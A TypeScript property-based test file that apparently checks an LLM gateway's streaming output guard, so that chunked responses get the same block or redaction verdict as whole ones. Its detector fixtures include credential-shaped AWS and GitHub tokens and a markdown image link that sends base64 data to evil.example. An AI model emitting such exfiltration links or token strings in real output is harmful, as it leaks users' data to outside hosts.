import type { Json } from '@tappass/core';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { playChat } from '../dev/play-chat.ts';
import { playMessages } from '../dev/play-messages.ts';
import { playResponses } from '../dev/play-responses.ts';
import { readScript, type Turn } from '../dev/script.ts';
import type { WireFormat } from '../llm/wire.ts';
import { chatWire, messagesWire, responsesWire } from '../llm/wires.ts';
import type { Admitted, OutputGuard } from '../pipeline/admission.ts';
import { createPipeline } from '../pipeline/pipeline.ts';
import { modelCall, testSandbox } from '../sandbox.test.support.ts';
import { gather } from '../test-support/grammar.ts';
import { handGuard } from '../test-support/hand-pipeline.ts';
import { Judge } from './judge.ts';
import { rewriteJson } from './rewrite-json.ts';
import { SseParser } from './sse.ts';

const wires = [
	[chatWire, playChat],
	[responsesWire, playResponses],
	[messagesWire, playMessages],
] as const;
const rules = { forbidden: ['kaboom', 'é☢é'], redacted: ['secret', '𝕊ecret'] };
const body = { model: 'm', stream: true, messages: [{ role: 'user', content: 'hi' }], input: 'hi' };

// Texts of which many hold a word, the beginning of one, or characters of several bytes.
const piece = fc.constantFrom(
	'kab',
	'oom',
	'kaboom',
	'sec',
	'ret',
	'secret',
	'é',
	'☢',
	'𝕊',
	'ecret',
	' ',
	'"',
	'\\',
	'\n',
	'x',
);
const text = fc.array(piece, { minLength: 1, maxLength: 12 }).map((pieces) => pieces.join(''));
const turns = fc.record({
	think: fc.option(text, { nil: undefined }),
	say: fc.option(text, { nil: undefined }),
	call: fc.array(fc.record({ tool: fc.constantFrom('a__b', 'c__d'), arguments: fc.record({ q: text }) }), {
		maxLength: 2,
	}),
	chunk: fc.integer({ min: 1, max: 7 }),
	cuts: fc.array(fc.nat(40), { minLength: 1, maxLength: 8 }),
});

async function stream(
	wire: WireFormat,
	events: readonly string[],
	cuts: readonly number[],
	guard: OutputGuard = handGuard(rules),
): Promise<{ out: string; blocked: boolean }> {
	const judge = new Judge(guard);
	const reader = wire.reader(wire.read(body as Json, 10), judge);
	const parser = new SseParser();
	const bytes = Buffer.from(events.join(''));
	let out = '';
	for (let at = 0, cut = 0; at < bytes.length && judge.denial === undefined; cut += 1) {
		const length = cuts[cut % cuts.length]! + 1;
		for (const event of parser.push(bytes.subarray(at, at + length))) {
			await reader.event(event);
			if (judge.denial !== undefined) break;
		}
		at += length;
		out += reader.out;
		reader.out = '';
	}
	if (judge.denial === undefined) await reader.end();
	else out += wire.errorEvents(judge.denial, reader);
	return { out, blocked: judge.denial !== undefined };
}

async function whole(
	wire: WireFormat,
	answer: Json,
	guard: OutputGuard = handGuard(rules),
): Promise<{ answer: Json; blocked: boolean }> {
	const judge = new Judge(guard);
	const edits = await wire.judgeAnswer(answer, judge);
	return {
		answer: JSON.parse(rewriteJson(JSON.stringify(answer), edits)) as Json,
		blocked: judge.denial !== undefined,
	};
}

describe.each(wires)('%o', (wire, play) => {
	test(`${wire.wire}: for any chunking the verdict and the text are those of the whole`, async () => {
		await fc.assert(
			fc.asyncProperty(turns, async ({ chunk, cuts, ...turn }) => {
				const script = readScript({ schema: 'tappass.dev-model/1', chunk, turns: [turn] }, 'script');
				const [only] = script.turns as readonly [Turn];
				const played = play(script, only, body as Json, 1);
				const asWhole = await whole(wire, played.whole);

				const streamed = await stream(wire, played.events, cuts);

				expect(streamed.blocked).toBe(asWhole.blocked);
				const said = gather(wire.wire, streamed.out);
				expect(said.end).toBe(asWhole.blocked ? 'error' : 'complete');
				for (const word of rules.forbidden)
					expect([said.text, said.thinking].filter((one) => one.includes(word))).toEqual([]);
				if (asWhole.blocked) return;
				const redacted = (given = ''): string =>
					rules.redacted.reduce((one, word) => one.replaceAll(word, '[taken out]'), given);
				expect(said.text).toBe(redacted(only.say));
				expect(said.thinking).toBe(redacted(only.think));
				expect(said.calls).toEqual(
					only.call.map(({ tool, arguments: args }) => ({ name: tool, args: JSON.stringify(args) })),
				);
			}),
			{ numRuns: 150 },
		);
	});

	test(`${wire.wire}: what nothing has to be done to goes out byte for byte`, async () => {
		const script = readScript(
			{
				schema: 'tappass.dev-model/1',
				turns: [{ think: 'hm', say: 'Grüß dich, 𝕊!', call: [{ tool: 'a__b', arguments: { q: 1 } }] }],
			},
			's',
		);
		const asked = { ...body, stream_options: { include_usage: true } };
		const { events } = play(script, script.turns[0]!, asked as Json, 1);
		const judge = new Judge(handGuard({}));
		const reader = wire.reader(wire.read(asked as Json, 10), judge);

		for (const event of new SseParser().push(Buffer.from(events.join('')))) await reader.event(event);

		expect(reader.out).toBe(events.join('').replace('{"type":"ping"}', '{"type": "ping"}'));
	});

	test(`${wire.wire}: a character that was cut in two arrives whole, in texts and in arguments`, async () => {
		const said = { think: 'a 𝕊 b𝕊', say: '𝕊, 𝕊ecret and 𝕊', call: [{ tool: 'a__b', arguments: { q: 'x𝕊' } }] };
		const script = readScript({ schema: 'tappass.dev-model/1', chunk: 3, turns: [said] }, 's');
		const played = play(script, script.turns[0]!, body as Json, 1).events.flatMap(halved);

		const streamed = await stream(wire, played, [7]);

		expect(played.join('')).toContain('\\ud835"');
		expect(streamed.out).not.toMatch(/\\ud/i);
		expect(gather(wire.wire, streamed.out)).toMatchObject({
			end: 'complete',
			text: '𝕊, [taken out] and 𝕊',
			thinking: said.think,
			calls: [{ name: 'a__b', args: '{"q":"x𝕊"}' }],
		});
	});

	test.each([
		['that never becomes whole', (event: string) => [halved(event)[0]!.replace('𝕊', '\\ud835')]],
		['that another text follows', (event: string) => [...halved(event).slice(0, 1), event]],
		['that has no first half', (event: string) => halved(event).slice(1)],
		['outside of what is said', (event: string) => [event.replace(/"(?:id|item_id)":"/, '$&\\ud835')]],
	])(`${wire.wire}: refuses half a character %s`, async (_what, broken) => {
		const script = readScript({ schema: 'tappass.dev-model/1', chunk: 9, turns: [{ say: 'a𝕊' }] }, 's');
		const { events } = play(script, script.turns[0]!, body as Json, 1);

		await expect(stream(wire, events.flatMap(broken), [40])).rejects.toMatchObject({ code: 'upstream_malformed' });
	});
});

/** A delta with a character of two units as two, which part between its halves. */
function halved(event: string): readonly string[] {
	const [before, after] = event.split(/𝕊(.*)/s, 2);
	if (after === undefined || !/\.delta"|_delta"|chat\.completion\.chunk/.test(event)) return [event];
	const start = before!.search(/"(?:[^"\\]|\\.)*$/) + 1;
	return [
		`${before}\\ud835${after.slice(after.search(/(?<!\\)(?:\\\\)*"/))}`,
		`${before!.slice(0, start)}\\udd4a${after}`,
	];
}

// What the shipped detectors look for, each of them, and what is around it; many are cut in two by what follows.
const found = fc.constantFrom(
	'ana.silva@example.com',
	'4111 1111 1111 1111',
	'DE89 3704 0044 0532 0130 00',
	['AKIA', 'Z7QK3V5N2M8J4XWD'].join(''),
	['ghp_', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join(''),
	'![x](https://evil.example/?d=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ)',
);
const around = fc.constantFrom(
	'Grüße 𝕊, ',
	'the sum is four. ',
	'"\\ \n',
	'write to ',
	'é',
	'😀 ',
	'ghp_',
	'4111 ',
	' ',
);
const said = fc.array(fc.oneof({ weight: 5, arbitrary: around }, { weight: 1, arbitrary: found }), {
	minLength: 1,
	maxLength: 8,
});
const spoken = said.map((parts) => parts.join(''));
const answers = fc.record({
	think: fc.option(spoken, { nil: undefined }),
	say: fc.option(spoken, { nil: undefined }),
	call: fc.array(fc.record({ tool: fc.constant('collibra__list_schemas'), arguments: fc.record({ q: spoken }) }), {
		maxLength: 1,
	}),
	chunk: fc.integer({ min: 1, max: 7 }),
	cuts: fc.array(fc.nat(60), { minLength: 1, maxLength: 8 }),
});

describe.each(wires)('%o', (wire, play) => {
	test.each(['flag', 'strict', 'reversible'])(
		`${wire.wire}: the verdict of the shipped detectors is that of the whole, for any chunking, mode %s`,
		async (mode) => {
			const { ports, caller } = await testSandbox({
				steps: { scan_output: { parameters: { mode } } },
				compiled: { budget: { tokens_per_day: 1e9, dollars_per_month: 1e9, tool_calls_per_minute: 1e9 } },
			});
			const pipeline = createPipeline(ports);
			const admit = async (): Promise<Admitted> => {
				const admission = await pipeline.admit(modelCall(), caller);
				if (admission.effect === 'block') throw new Error(admission.denial.code);
				return admission.admitted;
			};
			let blocks = 0;
			let passes = 0;
			await fc.assert(
				fc.asyncProperty(answers, async ({ chunk, cuts, ...turn }) => {
					const script = readScript({ schema: 'tappass.dev-model/1', chunk, turns: [turn] }, 'script');
					const played = play(script, script.turns[0]!, body as Json, 1);
					const [one, other] = [await admit(), await admit()];

					const asWhole = await whole(wire, played.whole, one.guard);
					const streamed = await stream(wire, played.events, cuts, other.guard);

					expect(streamed.blocked).toBe(asWhole.blocked);
					const heard = gather(wire.wire, streamed.out);
					expect(heard.end).toBe(asWhole.blocked ? 'error' : 'complete');
					if (asWhole.blocked) blocks += 1;
					if (asWhole.blocked) return;
					passes += 1;
					// Whatever was taken out of the whole was taken out of the stream, and nothing else.
					const told = JSON.stringify(asWhole.answer);
					for (const text of [heard.text, heard.thinking]) expect(told).toContain(JSON.stringify(text).slice(1, -1));
					// As a text or as an object, by the wire.
					for (const { args } of heard.calls)
						expect([told.includes(args), told.includes(JSON.stringify(args).slice(1, -1))]).toContain(true);
					expect(new Set(other.findings.map(({ message }) => message))).toEqual(
						new Set(one.findings.map(({ message }) => message)),
					);
				}),
				{ numRuns: 60 },
			);
			pipeline.close();
			expect([blocks > 0, passes > 0]).toEqual([true, true]);
		},
	);
});
